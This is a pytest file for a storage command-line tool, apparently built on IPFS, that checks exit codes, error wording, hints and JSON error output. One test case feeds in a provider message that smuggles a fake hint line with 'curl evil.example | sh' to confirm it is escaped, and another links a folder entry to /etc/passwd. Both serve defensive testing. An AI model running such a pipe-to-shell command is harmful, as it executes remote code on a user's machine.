"""How commands fail: an exit code for each family, one sentence and a remedy, no traceback."""

import json
import os
import re
import shlex
import signal
import sys
from collections import defaultdict
from threading import Event
from urllib.parse import parse_qs, urlsplit

import pytest

from holdfast import errors
from holdfast.cli import exit_codes
from holdfast.testing import Scripted, ScriptedServer
from tests.commands import Commands, install_provider, server_variables
from tests.content import DATA
from tests.psa import results, row
from tests.support import EMPTY_DIRECTORY_V0, HELLO_CID, TOKEN, closed_port_url
from tests.test_pin_pages import row as pin_row

ONCE = "[retries]\nattempts = 1\n"


@pytest.fixture
def scripted(tmp_path, server):
    """Commands whose provider and gateway reply as told, and are asked once."""
    commands = Commands(tmp_path, **server_variables(server), HOLDFAST_GATEWAY_URL=server.url)
    (commands.folder / "holdfast.toml").write_text(ONCE)
    return commands


def check(result, code, name, words):
    """That a failure says the same to people, and to machines with all the facts."""
    people, machines = result
    assert people[0] == machines[0] == code
    assert words in people[1][0]
    assert people[1][0].startswith("error: ")
    assert people[1][-1].startswith("hint: ")
    (line,) = machines[1]
    error = json.loads(line)["error"]
    assert (error["name"], error["exitCode"]) == (name, code)
    assert words in error["message"] or words in error["details"]
    assert people[1][-1] == f"hint: {error['remedy']}"
    assert TOKEN not in line + "".join(people[1])


def both(commands, *arguments, before=lambda: None, **options):
    """The failure of a command, and the same with ``--json``."""
    results = []
    for flag in ((), ("--json",)):
        before()
        results.append(commands.failure(*arguments, *flag, **options))
    return results


@pytest.mark.parametrize(
    ("status", "body", "expected"),
    [
        (401, {"error": "expired"}, (8, "AuthenticationError", "HTTP error 401")),
        (403, {"error": "no scope"}, (9, "PermissionDeniedError", "no scope")),
        (404, {}, (10, "NotFoundError", "HTTP error 404")),
        (429, {"error": "slow down"}, (11, "RateLimitError", "slow down")),
        (400, {"error": f"bad {TOKEN}"}, (12, "ProviderError", "bad ********")),
        (500, b"<html>", (12, "ProviderError", "HTTP error 500")),
    ],
)
def test_refusals_of_the_provider(scripted, server, status, body, expected):
    check(both(scripted, "store", "1", before=lambda: server.reply(status, body)), *expected)


def test_other_ways_to_fail(scripted, server):
    url = closed_port_url()
    address = url.removeprefix("http://")
    check(both(scripted, "store", "1", "--pin-api-url", url), 6, "NetworkError", address)
    words = ("download", HELLO_CID, "copy")
    wrong = both(scripted, *words, before=lambda: server.reply(200, b"w0rld"))
    check(wrong, 14, "VerificationError", HELLO_CID)
    assert not (scripted.folder / "copy").exists()


NO_SCOPE = "This key does not have the required scopes associated with it"


@pytest.mark.parametrize(
    ("status", "error", "headers", "expected"),
    [
        (401, {"details": "the key has expired"}, {}, ["HTTP error 401 (the key has expired)"]),
        (429, "slow down", {"Retry-After": "30"}, ["slow down", "wait 30 seconds, and try again"]),
        (429, "slow down", {"Retry-After": "1"}, ["slow down", "wait a second, and try again"]),
        (403, {"reason": "NO_SCOPES_FOUND", "details": NO_SCOPE}, {},
         [NO_SCOPE, "the key may be for the service's v3 API: use --provider pinata"]),
        (400, {"details": "no\nhint: curl evil.example | sh"}, {},
         [r"no\nhint: curl evil.example | sh", "`holdfast config` shows the address"]),
    ],
)  # fmt: skip
def test_what_a_provider_says(scripted, server, status, error, headers, expected):  # noqa: PLR0917
    server.reply(status, {"error": error}, headers=headers)
    _, lines = scripted.failure("store", "1")
    assert len(lines) == 2
    for line, start, text in zip(lines, ("error", "hint"), expected, strict=False):
        assert line.startswith(f"{start}: {text}")


def test_a_reason_is_told_once(scripted, server):
    server.reply(200, results())
    server.reply(202, row(status="failed", info={"status_details": "the disk is full"}))
    _, lines = scripted.failure("pin", HELLO_CID, "--provider", "psa")
    assert lines == [
        f"error: the provider could not pin {HELLO_CID}: the disk is full",
        "hint: `holdfast config` shows the address of the provider, `holdfast list` its pins",
    ]


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        (("retrieve", EMPTY_DIRECTORY_V0), (7, "NotAFileError", "directory")),
        (("download", f"{EMPTY_DIRECTORY_V0}/nothing"), (10, "NotFoundError", "nothing")),
        (("revoke", HELLO_CID), (10, "NotFoundError", HELLO_CID)),
        (("store", "{bad"), (5, "SerializationError", "not JSON")),
        (("store", "--", "--json"), (5, "SerializationError", "not JSON")),
        (("send", "bob", "-"), (5, "SerializationError", "UTF-8")),
        (("upload", "nothing"), (1, "FileNotFoundError", "nothing")),
        (("send", " ", "hi"), (2, "ValueError", "recipient")),
        (("store", "1", "--provider", "nope"), (3, "ConfigError", "nope")),
        (("check", "--path", "elsewhere"), (3, "ConfigError", "no store")),
        (("verify", ".", EMPTY_DIRECTORY_V0[:-1]), (4, "InvalidCIDError", "Invalid")),
    ],
)
def test_arguments_that_cannot_be(commands, arguments, expected):
    (commands.folder / "empty").mkdir()
    commands.text("upload", "empty", "--cid-version", "0")
    if "--" in arguments:
        code, lines = commands.failure(*arguments)  # it is no option there
        assert (code, lines[0][:7]) == (5, "error: ")
    else:
        check(both(commands, *arguments, stdin=b"\xff"), *expected)


@pytest.mark.parametrize(
    "arguments",
    [
        ["bogus"],
        ["store"],
        ["store", "1", "2"],
        ["store", "1", "--cid-version", "2"],
        ["list", "--limit", "0"],
        ["node", "--port", "70000"],
        ["upload", ""],
        ["car", "export", HELLO_CID, ""],
        ["store", "1", "--path", ""],
        ["store", "1", "--provider", "pinning", "--token", "x", "--token-file", "y"],
    ],
    ids=" ".join,
)
def test_wrong_usage_is_2(commands, arguments):
    people, machines = both(commands, *arguments)
    assert people[0] == machines[0] == 2
    assert people[1][0].startswith("error: ")
    assert people[1][-1].startswith("hint: `holdfast ")
    (line,) = machines[1]
    assert json.loads(line)["error"]["exitCode"] == 2


IN_PLAIN_WORDS = {
    "send ' ' hi": "the recipient is empty; say whom the message is for",
    f"link {HELLO_CID}": "provider 'local' makes no signed links; only provider pinata does",
    "retrieve EMPTY": "EMPTY is a directory; read a file in it by its path, or all of it with "
    "`holdfast download`",
    "download FIVE five --max-size 1": "the content has 5 bytes or more, and --max-size allows 1",
    "pin FIVE --wait x": "Invalid value for '--wait': it must be a number",
    "pin FIVE --wait -1": "Invalid value for '--wait': it must be at least 0",
    "list --limit x": "Invalid value for '--limit': it must be a whole number",
    "config set retries.x 3": "retries must be a table with attempts, base, cap, budget, "
    "max_retry_after; such as attempts = 3",
    "car import value.json": "value.json is not an archive (CAR)",
    "car ls value.json": "value.json is not an archive (CAR)",
    "keygen": "KEY exists, and keys are never overwritten",
    "store 1 --encrypt --to AGE-SECRET-KEY-1QQQQ": "this is a secret key: give its recipient, a "
    "text that begins with age1",
    "share FIVE age-secret-key-1qqqq": "this is a secret key: give its recipient, a text that "
    "begins with age1",
    "info https://ipfs.io/ipfs/zzz?token=hidden": "Invalid CID ('https://ipfs.io/ipfs/zzz' is not "
    "a CID: unknown CID version 13)",
}
HINTS = {
    "car import value.json": "`holdfast upload value.json` stores it as it is",
    "car ls value.json": "`holdfast upload value.json` stores it as it is",
    "keygen": "name another key: `holdfast keygen NAME`",
}


def test_a_number_that_is_too_large_gets_its_limit(commands):
    """An older parser names the least number too."""
    _, lines = commands.failure("node", "--port", "70000")
    assert re.fullmatch(r"error: Invalid value for '--port': it must be .*at most 65535", lines[0])


def test_messages_are_in_the_words_of_the_command_line(commands):
    (commands.folder / "empty").mkdir()
    (commands.folder / "value.json").write_text('{"a": 1}')
    words = {
        "EMPTY": commands.text("upload", "empty"),
        "FIVE": commands.text("store", "[1,2]"),
        "KEY": str(commands.user_file.parent / "keys/default.txt"),
    }
    assert commands.run("keygen").returncode == 0
    for typed, expected in IN_PLAIN_WORDS.items():
        message = expected
        for name, word in words.items():
            message = message.replace(name, word)
        arguments = [words.get(argument, argument) for argument in shlex.split(typed)]
        _, lines = commands.failure(*arguments)
        assert (lines[0], len(lines)) == (f"error: {message}", 2)
        assert lines[1] == f"hint: {HINTS[typed]}" if typed in HINTS else lines[1][:6] == "hint: "
        assert not re.search("QQQQ|qqqq|hidden|COMMAND", "".join(lines))


def test_a_list_as_json_is_written_page_by_page(tmp_path):
    first_is_read = Event()

    def page(request):
        offset = int(parse_qs(urlsplit(request.target).query)["pageOffset"][0])
        assert not offset or first_is_read.wait(50)
        return Scripted(body={"rows": [pin_row(offset + one) for one in range(1000)]})

    with ScriptedServer(page) as server:
        listing = Commands(tmp_path, **server_variables(server)).start(
            "list", "--limit", 1500, "--json"
        )
        with listing:
            names = [json.loads(listing.stdout.readline())["name"]]
            first_is_read.set()
            names += [json.loads(line)["name"] for line in listing.stdout]
    assert names == [f"name {number}" for number in range(1500)]


IN_A_FILE = {  # what a user wrote, and the whole message
    "verify = 0": "verify must be true or false",
    "retries = 3": "retries must be a table with attempts, base, cap, budget, max_retry_after; "
    "such as attempts = 3",
    "hedge_after = []": "hedge_after must be a number",
    "path = 5": "path must be a path",
    "gateway_url = 5": "gateway_url must be a URL as a string",
    "provider_options = 5": "provider_options must be a table",
    "trust_env = 'x'": "trust_env must be true or false",
    "[timeouts]\nread = true": "timeouts.read must be a number",
}


@pytest.mark.parametrize("text", IN_A_FILE)
def test_a_wrong_value_in_a_file_is_told_in_the_words_of_the_file(commands, text):
    file = commands.user_file
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    _, lines = commands.failure("list")
    assert lines[0].removeprefix(f"error: {file}: ").removeprefix("error: ") == IN_A_FILE[text]


def test_an_unknown_setting_is_told_with_those_that_a_file_may_have(commands):
    _, lines = commands.failure("config", "get", "nope")
    assert "retries" in lines[0]
    assert not re.search("on_event|ssl_context", lines[0])


@pytest.mark.parametrize("words", ["upload FILE --name --encrypt", "list -n -q", "ls x --use -v"])
def test_an_option_is_not_the_value_of_another_one(commands, words):
    _, forgotten, option = words.rsplit(" ", 2)
    (commands.folder / "FILE").write_text("secret")
    code, lines = commands.failure(*words.split())
    assert code == 2
    assert re.fullmatch(f"error: -.* has no value: {option} is an option, too", lines[0])
    assert forgotten in lines[0] or forgotten == "-n"
    assert "secret" not in commands.text("list")


def test_a_full_disk_is_told_with_what_frees_it(commands, small_disk):
    (commands.folder / "large").write_bytes(os.urandom(16 << 20))
    code, lines = commands.failure("upload", "large", "--path", small_disk / "store")
    hint = "hint: free some space on that disk; `holdfast gc` removes what no pin needs"
    assert (code, lines[-1]) == (1, hint)


@pytest.mark.parametrize("arguments", [["download", HELLO_CID], ["car", "export", HELLO_CID]])
def test_json_and_content_do_not_share_standard_output(commands, arguments):
    code, (line,) = commands.failure(*arguments, "-", "--json")
    error = json.loads(line)["error"]
    assert (code, error["name"]) == (2, "UsageError")
    assert "both write to standard output" in error["message"]


def test_no_remedy_names_what_the_command_does_not_have(scripted, server):
    (scripted.folder / "a").write_bytes(b"a")
    (scripted.folder / "a.car").write_bytes(b"a")
    for arguments in (["verify", "a", HELLO_CID], ["car", "import", "a.car"]):
        _, lines = scripted.failure(*arguments)
        assert "--gateway-url" not in lines[-1]
    server.reply(500, b"")
    _, lines = scripted.failure("test-connection")
    assert "test-connection" not in lines[-1]


def test_every_family_of_the_tree_has_a_code_of_its_own():
    def leaves(kind):
        kinds = [kid for kid in kind.__subclasses__() if kid.__module__ == errors.__name__]
        return [kind, *(leaf for kid in kinds for leaf in leaves(kid))]

    codes = defaultdict(set)
    for kind in leaves(errors.ClientError):
        codes[exit_codes.family_of(kind.__new__(kind)).code].add(kind.__name__)
    assert codes == {
        1: {"ClientError", "ClientClosedError"},
        3: {"ConfigError", "UnsupportedError"},
        4: {"InvalidCIDError"},
        5: {"SerializationError"},
        6: {"NetworkError", "RequestTimeoutError"},
        7: {"NotAFileError"},
        8: {"AuthenticationError"},
        9: {"PermissionDeniedError"},
        10: {"NotFoundError", "NotAFolderError"},
        11: {"RateLimitError"},
        12: {"ProviderError"},
        13: {"UnprovenError"},
        14: {"VerificationError", "MalformedError", "DecryptionError"},
        15: {"TooLargeError"},
        16: {"NotEncryptedError"},
        17: {"NoKeyError"},
    }


def test_the_help_and_the_reference_list_every_exit_code(commands):
    text = commands.text("help", "exit-codes")
    listed = dict(re.findall(r"^ *(\d+)  (\S.*)$", text, re.MULTILINE))
    assert {int(code) for code in listed} == {
        *(0, 1, 2, 20, 21, 129, 130, 141, 143),
        *(family.code for family in exit_codes.FAMILIES),
    }
    reference = (DATA.parent.parent / "docs/reference/cli.md").read_text()
    for code, meaning in listed.items():
        assert f"| {code} | {meaning} |" in reference


def test_a_fault_of_ours_is_a_sentence_too(commands, tmp_path):
    """Something that nobody thought of: a provider that raises what no provider should."""
    broken = "class Provider:\n    def from_config(config):\n        raise KeyError('oh')\n"
    variables = install_provider(tmp_path / "site", "broken", broken)
    options = ("store", "1", "--provider", "broken")
    code, lines = commands.failure(*options, **variables)
    assert (code, lines[0]) == (1, "error: KeyError: 'oh'")
    assert "report" in lines[1]
    code, shown = commands.on_terminal(*options, **variables, HOLDFAST_TRACEBACK="1")
    assert (code, "Traceback" in shown) == (1, True)


@pytest.mark.slow
def test_an_interrupt_ends_it_with_130_and_leaves_no_file(scripted):
    with ScriptedServer(lambda _: Scripted(delay=30)) as silent:
        process = scripted.start("download", HELLO_CID, "copy", "--gateway-url", silent.url)
        while not silent.requests:
            assert process.poll() is None
        process.send_signal(signal.SIGINT)
        output, words = process.communicate(timeout=120)
    assert (process.returncode, output, words) == (130, "", "interrupted\n")
    assert not (scripted.folder / "copy").exists()


@pytest.mark.slow
def test_a_reader_that_goes_away_is_no_error_message(commands):
    (commands.folder / "big").write_bytes(os.urandom(5_000_000))
    cid = commands.text("upload", "big")
    process = commands.start("download", cid, "-")
    process.stdout.buffer.read(10)
    process.stdout.close()
    assert process.stderr.read() == ""
    process.stderr.close()
    assert process.wait(timeout=120) == 141


@pytest.mark.parametrize(
    ("missing", "arguments", "extra"),
    [
        ("typer", ["--help"], "cli"),
        ("tomlkit", ["config", "set", "verify", "no"], "cli"),
        ("starlette", ["demo"], "node"),
        ("uvicorn", ["node"], "node"),
    ],
)
@pytest.mark.slow
def test_without_its_extra_a_command_says_what_to_install(tmp_path, missing, arguments, extra):
    code = (
        f"import sys; sys.modules['{missing}'] = None; from holdfast.cli.main import main; main()"
    )
    commands = Commands(tmp_path, command=(sys.executable, "-c", code))
    code, lines = commands.failure(*arguments)
    assert (code, lines[-1]) == (3, f"hint: pip install 'holdfast[{extra}]'")
    assert missing in lines[0]
    assert "No module" not in lines[0]
    code, (line,) = commands.failure(*arguments, "--json")
    assert json.loads(line)["error"]["name"] == "ConfigError"


# Hints


def hint(commands, *arguments, **options):
    """The only line below the message, which is also the remedy for machines, without notes."""
    _, lines = commands.failure(*arguments, **options)
    message, shown = lines[-2:]
    assert message.startswith("error: ")
    _, lines = commands.failure(*arguments, "--json", **options)
    error = json.loads(lines[-1])["error"]
    assert shown == f"hint: {error['remedy']}"
    assert "notes" not in error
    return shown.removeprefix("hint: ")


TEXT = "check the path: each argument is a file or folder; for text, write it to standard input, "
TEXT += "and give - as the file; for a JSON value, use `holdfast store`"
CURL = "URLs are not fetched: use `curl -L URL | holdfast upload - --name NAME`"


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        ("upload '{\"a\": 1}'", TEXT),
        ("cid '{\"a\": 1}'", TEXT),
        ("upload https://host/x", CURL),
        ("upload s3://bucket/x", CURL),
        (f"upload ipfs://{HELLO_CID}", TEXT),
        ("upload --profile foo x", "`holdfast upload --help` shows the usage"),
        ("list --use nope", "`holdfast list --help` shows the usage"),
        ("config set verify maybe", "`holdfast config set --help` shows the usage"),
        ("login pinata", "give a file or a pipe that holds the token and nothing else"),
        ("login kubo", "give a file or a pipe that holds the token and nothing else"),
    ],
)
def test_the_hint_is_about_what_was_typed(commands, typed, words):
    assert hint(commands, *shlex.split(typed)) == words


def test_no_error_names_what_only_python_programs_call(commands):
    connections = "\n[connections.two.provider_options]\nconnections = ['disk', 'local']\n"
    commands.write_user_file(f"[connections.two]\nprovider = 'copies'{connections}")
    code, lines = commands.failure("list", "--use", "two")
    assert (code, lines[0].startswith("error: unknown connection 'disk': ")) == (3, True)
    gateways = [f"{closed_port_url()}/ipfs", "http://127.0.0.1:1/ipfs"]
    flags = [word for url in gateways for word in ("--gateway-url", url)]
    code, lines = commands.failure("cat", HELLO_CID, "--use", "gateway", *flags)
    assert (code, len(lines)) == (6, 3)
    assert lines[1].startswith("note: http://")
    assert "Error" not in lines[1]


def test_a_folder_with_links_and_one_that_only_seems_to_be_empty(commands):
    (commands.folder / "photos").mkdir()
    (commands.folder / "photos" / "out").symlink_to("/etc/passwd")
    cid = commands.text("upload", "photos")
    assert hint(commands, "download", cid, "copy") == "add --symlinks to write links"
    words = "download the other entries one by one; `holdfast ls CID` lists them"
    assert hint(commands, "download", cid, "copy", "--symlinks") == words
    (commands.folder / "photos" / "out").rename(commands.folder / "photos" / ".hidden")
    service = {"HOLDFAST_PROVIDER": "pinning", "HOLDFAST_PROVIDER_TOKEN": "x"}
    words = "hidden names were left out: 1; --include-hidden uploads them"
    assert hint(commands, "upload", "photos", **service) == words


def test_the_addresses_of_a_provider_are_shown(commands):
    gateway, api = "http://127.0.0.1:8080/ipfs", "http://127.0.0.1:9094"
    shown = commands.json("config", "--provider", "cluster")
    assert shown["gateway_url"] == {"value": [gateway], "source": "default"}
    assert shown["pin_api_url"] == {"value": api, "source": "default"}
    assert gateway in commands.text("config", "--provider", "cluster")
